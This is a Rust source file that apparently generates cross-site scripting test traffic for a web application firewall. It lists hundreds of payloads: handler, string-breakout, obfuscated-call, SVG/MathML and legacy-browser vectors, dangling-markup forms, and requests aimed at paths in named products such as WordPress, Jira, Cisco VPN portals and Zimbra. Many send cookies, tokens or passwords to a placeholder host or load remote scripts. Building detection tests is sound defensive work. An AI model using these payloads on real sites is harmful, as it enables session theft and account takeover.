//! Script in pages: stored comments, handlers, strings of scripts, old browsers and new, products.

use medward_waf::AttackClass;

use super::super::super::attack::{AttackGrammar, payload, request};
use super::super::super::encode::Encoding::{
    self, Base64, Case, Combined, Comment, CssEscape, DoublePercent, HtmlEntity, JsEscape, JsonEscape, Percent,
    PercentU, Plain, Utf7, Whitespace,
};
use super::super::super::place::Place;
use super::make::{Hole, cookie, form, header, json, one, path, query, whole, xml};

const SPELLINGS: &[Encoding] =
    &[Plain, Percent, DoublePercent, PercentU, HtmlEntity, Base64, JsonEscape, Case, Whitespace, Combined];
const ORDINARY: &[Encoding] = &[Plain, Percent, Plain, JsonEscape, Case, DoublePercent];
const SCRIPT: &[Encoding] = &[Plain, Percent, JsonEscape, Comment, JsEscape, DoublePercent];

pub(super) const ATTACKS: &[AttackGrammar] = &[
    payload("xss-stored-posts", AttackClass::Xss, 38, |rng| one(rng, STORED), Place::PARAMETERS, ORDINARY),
    payload("xss-newer-handlers", AttackClass::Xss, 40, |rng| one(rng, HANDLERS), Place::INPUTS, SPELLINGS),
    payload("xss-out-of-strings", AttackClass::Xss, 36, |rng| one(rng, STRINGS), Place::INPUTS, SCRIPT),
    payload("xss-hidden-calls", AttackClass::Xss, 38, |rng| one(rng, CALLS), Place::PARAMETERS, ORDINARY),
    payload("xss-foreign-content", AttackClass::Xss, 36, |rng| one(rng, FOREIGN), Place::INPUTS, SPELLINGS),
    payload(
        "xss-old-browsers",
        AttackClass::Xss,
        36,
        |rng| one(rng, OLD),
        Place::INPUTS,
        &[Plain, Percent, PercentU, HtmlEntity, CssEscape, Utf7, Case],
    ),
    payload("xss-without-script", AttackClass::Xss, 35, |rng| one(rng, DANGLING), Place::INPUTS, ORDINARY),
    request("xss-known-products", AttackClass::Xss, 40, |rng| whole(rng, PRODUCTS)),
];

/// Comments, names and remarks that an administrator will open.
const STORED: &[&str] = &[
    "<script src=//§h/§w.js></script>",
    "</textarea>'\"><script src=http://§h/§x></script>",
    "<script>new Image().src='http://§h/?c='+document.cookie</script>",
    "<img src=x onerror=\"var s=document.createElement('script');s.src='//§h/§w';document.body.appendChild(s)\">",
    "<script>fetch('http://§h/',{method:'POST',mode:'no-cors',body:document.cookie})</script>",
    "\"><script>alert(/§w/)</script>",
    "医生很好<script>alert('§w')</script>",
    "<img src=1 onerror=alert(§n)>",
    "<svg/onload=alert('§w')>",
    "<iframe src=javascript:alert(§n)></iframe>",
    "<a href=\"javascript:alert('§w')\">点击查看报告</a>",
    "<script>document.location='http://§h/cookie.php?c='+escape(document.cookie)</script>",
    "<script>$.getScript('//§h/§w.js')</script>",
    "<body onload=\"document.forms[0].action='http://§h/§w'\">",
    "<script>var x=new XMLHttpRequest();x.open('POST','/admin/user/add');x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');x.send('name=§w&role=1')</script>",
    "<input onfocus=eval(atob(this.id)) id=⟨import('//§h/§w')⟩ autofocus>",
    "</title><script>alert(document.domain+'§w')</script>",
    "<script>prompt(§n)</script>",
];

const HANDLERS: &[&str] = &[
    "<details open ontoggle=alert(§n)>",
    "<video><source onerror=\"alert('§w')\">",
    "<audio src=x onerror=confirm(§n)>",
    "<marquee onstart=prompt(§n)>§w</marquee>",
    "<div onpointerover=\"alert(§n)\">§w</div>",
    "<style>@keyframes §v{}</style><b style=\"animation-name:§v\" onanimationstart=\"alert(1)\"></b>",
    "<input autofocus onfocusin=alert(§n)>",
    "<select autofocus onfocus=alert(§n)><option>§w",
    "<body onhashchange=alert(§n)><a href=#§w>§w</a>",
    "<button popovertarget=§v>§w</button><div id=§v popover onbeforetoggle=alert(1)>",
    "<dialog open oncancel=\"alert(§n)\">§w</dialog>",
    "<img loading=lazy src=§w onerror=alert`§n`>",
    "<p oncut=alert(§n) contenteditable>§w",
    "<form onformdata=alert(§n)><button>§w</button></form>",
    "<div onwheel=\"alert('§w')\" style=\"height:9999px\">",
    "<xss id=§w tabindex=1 onfocus=alert(document.cookie)></xss>",
    "<div contextmenu=§w onauxclick=alert(§n)>",
    "<input type=hidden oncontentvisibilityautostatechange=alert(§n) style=content-visibility:auto>",
    "<video controls oncanplay=\"alert('§w')\"><source src=/v.mp4></video>",
    "\" onmouseover=\"alert(§n)\" x=\"§w",
    "' accesskey='x' onclick='alert(§n)' §w='",
    "<object data=§w onerror=alert(§n)>",
    "<track default onload=alert(§n) src=data:text/vtt,WEBVTT§w>",
    "<meter onmouseover=alert(§n)>§w</meter>",
];

/// The value stands in a string, a template or an object of a script already.
const STRINGS: &[&str] = &[
    "';alert(§n);//",
    "\";alert('§w');//",
    "'-alert(§n)-'",
    "\"-confirm(§n)-\"§w",
    "</script><script>alert(§n)</script>",
    "\\';alert(§n);//§w",
    "${alert(document.domain)}§w",
    "'};alert(§n);var §w={'a':'",
    "');fetch('//§h/?'+document.cookie);('§w",
    "1;window['ale'+'rt'](§n)",
    "'+eval(location.hash.slice(1))+'§w",
    "</ScRiPt ><svg onload=alert(§n)>",
    "';top[/al/.source+/ert/.source](§n)//",
    "\"});document.write('<img src=//§h/'+document.cookie+'>');({\"§w\":\"",
    "`+import('//§h/§w.js')+`",
    "*/alert(§n)/*§w",
    "\u{2028}alert(§n)//§w",
    "a';setTimeout('alert(§n)');b='",
    "1});$.getScript('//§h/§w');({",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(§n)//'>",
];

/// The name of what is called is put together at run time.
const CALLS: &[&str] = &[
    "<script>eval(String.fromCharCode(97,108,101,114,116,40,§n,41))</script>",
    "<img src=x onerror=eval(atob('⟨alert(§n)⟩'))>",
    "<svg onload=top['al'+'ert'](§n)>",
    "<script>window[(![]+[])[1]+(![]+[])[2]+(![]+[])[4]+(!![]+[])[1]+(!![]+[])[0]](§n)</script>",
    "<script>[]['filter']['constructor']('alert(§n)')()</script>",
    "<img src onerror=self[`al`+`ert`](`§w`)>",
    "<svg onload=setTimeout`alert\\x28§n\\x29`>",
    "<script>onerror=alert;throw §n</script>",
    "<script>{onerror=eval}throw'=alert\\x28§n\\x29'</script>",
    "<a href=javascript&colon;alert&lpar;§n&rpar;>§w</a>",
    "<img src=x onerror=\"\\u0061lert(§n)\">",
    "<script>Reflect.apply(alert,null,[§n])</script>",
    "<svg onload=location=name+'§w'>",
    "<img src=x onerror=location='jav'+'ascript:al'+'ert%28§n%29'>",
    "<script>parent[8680439..toString(30)](§n)</script>",
    "<script>$='',_=!$+$,$$=!_+$;alert(_+$$+'§w')</script>",
    "<script>new Function`al\\ert\\`§n\\``</script>",
    "<object data=\"data:text/html;base64,⟨<script>alert(§n)</script>⟩\"></object>",
    "<iframe srcdoc=\"&lt;script&gt;parent.alert(§n)&lt;/script&gt;\"></iframe>",
    "<script>Set.constructor`alert\\x28document.domain+§n\\x29```</script>",
    "<script>[§n].find(alert)</script>",
    "<img src=x onerror=import('data:text/javascript,alert(§n)')>",
];

/// SVG, MathML and templates, where the parsers of a cleaner and of a browser differ.
const FOREIGN: &[&str] = &[
    "<svg><script>alert&#40;§n&#41;</script></svg>",
    "<svg><animate onbegin=alert(§n) attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:alert(§n) /><text x=20 y=20>§w</text></a>",
    "<svg><use href=\"data:image/svg+xml;base64,⟨<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:alert(§n)'><rect width='9' height='9'/></a></svg>⟩#x\"/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(§n)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(§n)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(§n)>\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(§n)>\">",
    "<math href=\"javascript:alert(§n)\">§w</math>",
    "<svg><set attributeName=onmouseover to=alert(§n)><rect width=99 height=99/>",
    "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(§n)\"/>",
    "<svg><foreignObject><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"javascript:alert(§n)\"/></foreignObject></svg>",
    "<template><s></template><img src=x onerror=alert(§n)>",
    "<svg><image href=§w onerror=alert(§n)>",
    "<svg><discard onbegin=alert(§n)>",
    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(§n)</x:script>",
    "<a href=\"#\" title=\"`<img src=x onerror=alert(§n)>`\">",
    "<title><a title=\"</title><img src onerror=alert(§n)>\">",
    "<svg><title><![CDATA[</title><script>alert(§n)</script>]]></svg>",
];

/// What only browsers up to 2015 ran, and scanners still send.
const OLD: &[&str] = &[
    "<div style=\"width:expression(alert(§n))\">",
    "<img src=\"vbscript:msgbox('§w')\">",
    "<xml id=x><a><b>&lt;script&gt;alert(§n)&lt;/script&gt;</b></a></xml><div datafld=b dataformatas=html datasrc=#x></div>",
    "<link rel=stylesheet href=\"javascript:alert(§n)\">",
    "<style>@import 'javascript:alert(\"§w\")';</style>",
    "<style>body{background:url(\"javascript:alert(§n)\")}</style>",
    "<img dynsrc=\"javascript:alert(§n)\">",
    "<bgsound src=\"javascript:alert('§w');\">",
    "<table background=\"javascript:alert(§n)\"><tr><td>§w",
    "<?xml version=\"1.0\"?><html:html xmlns:html='http://www.w3.org/1999/xhtml'><html:script>alert(§n);</html:script></html:html>",
    "<img style=\"xss:expr/*§w*/ession(alert(§n))\">",
    "<br size=\"&{alert('§w')}\">",
    "<meta charset=\"utf-7\"><script>alert('§w')</script>",
    "<comment><img src=\"</comment><img src=x onerror=alert(§n)//\">",
    "<script/§w src=\"http://§h/x.js\"></script>",
    "<<script>alert('§w');//<</script>",
    "<div style=\"behavior:url(http://§h/x.htc)\">§w</div>",
    "<div style=\"-moz-binding:url('http://§h/x.xml#xss')\">§w</div>",
    "<script for=document event=onreadystatechange>alert(§n)</script>",
    "<isindex type=image src=1 onerror=alert(§n)>",
    "<img src=`xx:xx`onerror=alert(§n)>",
    "<embed src=\"http://§h/x.swf\" allowscriptaccess=always>",
];

/// Markup that steals without running a script of its own.
const DANGLING: &[&str] = &[
    "<base href=\"http://§h/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=http://§h/login\">",
    "<form action=\"http://§h/§w\"><input name=password type=password><button>登录</button></form>",
    "<img src='http://§h/?§w=",
    "<link rel=stylesheet href=//§h/§w.css>",
    "<style>input[name=csrf][value^=§d]{background:url(//§h/?§w)}</style>",
    "<iframe src=\"http://§h/login\" style=\"position:fixed;top:0;left:0;width:100%;height:100%;border:0\">",
    "<button formaction=\"http://§h/§w\">提交</button>",
    "<meta http-equiv=\"refresh\" content=\"1;url=data:text/html;base64,⟨<script>alert('§w')</script>⟩\">",
    "<table background='//§h/§w?",
    "<link rel=prefetch href=\"//§h/?§w\">",
    "<portal src=\"http://§h/§w\">",
    "<object data=\"http://§h/§w.html\" width=100% height=100%></object>",
    "<a id=config><a id=config name=url href=\"cid:\"onerror=alert(§n)//\">",
    "\"><textarea name=§w formaction=//§h/",
    "<style>@import url(//§h/§w.css);</style>",
    "<input type=image src=x formaction=javascript:alert(§n)>",
];

/// Published reflections and stored holes.
const PRODUCTS: &[Hole] = &[
    query("/swagger-ui/index.html?configUrl=«data:text/html;base64,⟨{\"url\":\"http://§h/test.yaml\"}⟩»"),
    query("/?s=«\"><script>alert('§w')</script>»"),
    query("/wp-content/plugins/wp-file-upload/wfu_file_downloader.php?file=«<script>alert(§n)</script>»&ticket=§w"),
    form(
        "/wp-comments-post.php",
        "comment=«<a title='x onmouseover=alert(unescape(/§w/.source)) style=position:absolute;left:0;top:0;width:5000px;height:5000px A'>§w</a>»&author=§w&email=§w%40mail.example&comment_post_ID=§n",
    ),
    query("/search.do?keyword=«\"><img src=x onerror=alert(§n)>»&type=1"),
    query("/index.php?s=/search/index/keyword/«<script>alert(§n)</script>»"),
    query("/zimbra/h/calendar?view=day&x=§n&st=«\"><script>alert('§w')</script>»"),
    query("/webmail/?_task=mail&_mbox=«\"><svg onload=alert(§n)>»&_action=list"),
    query("/owa/auth/errorFE.aspx?msg=«'><script>alert(§n)</script>»&httpCode=500"),
    query("/cgi-bin/luci/;stok=§x/admin?msg=«<script>alert('§w')</script>»"),
    query("/remote/error?errmsg=«--><script>alert('§w')</script>»"),
    query("/+CSCOT+/translation?textdomain=AnyConnect&prefix=manifest&lang=«<svg/onload=alert(§n)>»"),
    form("/+CSCOE+/saml/sp/acs?tgname=a", "SAMLResponse=«\"><svg/onload=alert('§w')>»"),
    query("/dana-na/auth/url_default/welcome.cgi?p=«<script>alert(§n)</script>»"),
    query("/jira/secure/QueryComponentRendererValue!Default.jspa?assignee=«<script>alert(§n)</script>»"),
    query("/includes/decorators/global-translations.jsp?path=«\"><img src=x onerror=alert(§n)>»"),
    query("/phpmyadmin/index.php?pma_username=§w&table=«\"><script>alert(§n)</script>»"),
    query("/solr/admin/cores?action=«<svg onload=alert(§n)>»&wt=standard"),
    query("/tomcat-docs/appdev/sample/web/hello.jsp?test=«<script>alert('§w')</script>»"),
    path("/examples/jsp/snp/snoop.jsp;«<script>alert(§n)</script>»"),
    path("/«<img src=x onerror=alert('§w')>».aspx"),
    path("/struts2-showcase/«\"><script>alert(§n)</script>».action"),
    header("/admin/log", "User-Agent: <script>alert(§n)</script>"),
    header("/stat/visit", "Referer: http://www.boai.example/\"><script src=//§h/§w></script>"),
    header("/api/upload", "X-Forwarded-For: <img src=x onerror=alert(§n)>"),
    cookie("/forum.php", "Cookie: nickname=\"><script>alert(§n)</script>"),
    json(
        "/api/v1/comment/add",
        "{\"articleId\":§n,\"content\":\"<img src=x onerror=\\\"fetch('//§h/'+localStorage.getItem('token'))\\\">\"}",
    ),
    json(
        "/api/annotations",
        "{\"text\":\"<iframe srcdoc='<script src=//§h/§w.js></script>'></iframe>\",\"tags\":[\"§w\"]}",
    ),
    form("/bbs/post.php?action=reply", "subject=§w&message=«[img]http://§h/x.png\" onerror=\"alert(§n)[/img]»"),
    form("/bbs/post.php?action=new", "message=«[flash]http://§h/x.swf\"onload=\"alert(§n)[/flash]»&subject=§w"),
    xml(
        "/ueditor/net/controller.ashx?action=uploadfile",
        "<html xmlns=\"http://www.w3.org/1999/xhtml\"><script>alert(§n)</script></html>",
    ),
    query("/kindeditor/plugins/code/test.html?x=«<script>alert('§w')</script>»"),
    query("/druid/weburi.html?uri=«<img src=1 onerror=alert(§n)>»"),
    query("/WebReport/ReportServer?op=fs_main&serverID=«';alert(§n);//»"),
    query("/seeyon/main.do?method=login&errorMsg=«\"><script>alert('§w')</script>»"),
    form("/login.do", "username=«\"><script>alert(document.domain)</script>§w»&password=§w"),
];
